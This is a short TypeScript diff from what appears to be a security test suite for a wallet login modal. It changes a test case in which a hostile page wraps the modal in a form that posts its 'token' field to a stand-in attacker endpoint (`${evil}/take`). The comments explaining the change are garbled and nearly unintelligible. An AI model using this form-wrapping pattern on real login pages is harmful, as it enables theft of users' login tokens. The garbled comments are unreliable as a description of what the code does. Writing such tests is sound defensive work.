@@ -142,8 +142,8 @@ export const markup: HostilePage = async visitor => {
       ]
     },
   )
-  // forms of theirs around a login, which who is signed in already is done with at once
-  const around = '<wallet-login-modal open name="token" submit-on-complete></wallet-login-modal>'
+  // forms of theirs around a login, which who is signed in already is done with at once: a guest where it has no better way in
+  const around = '<wallet-login-modal open login-methods="guest" name="token" submit-on-complete></wallet-login-modal>'
   const forms = await playAll(
     [
       { name: 'a form of theirs around a login', after: `<form action="${evil}/take" method="post">${around}</form>` },
